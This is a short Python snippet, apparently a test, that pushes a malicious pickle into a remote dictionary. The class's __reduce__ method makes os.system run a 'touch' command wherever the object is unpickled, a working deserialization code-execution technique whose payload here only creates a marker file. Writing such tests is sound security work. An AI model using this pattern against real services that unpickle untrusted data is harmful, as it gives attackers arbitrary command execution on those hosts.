# Sends a pickle that runs a command where it is loaded.
class Evil:
    def __reduce__(self):
        return os.system, ('touch ' + sys.argv[3],)


m = connect('mixed')
d = m.mixed()
d['evil'] = Evil()
say(len(d))
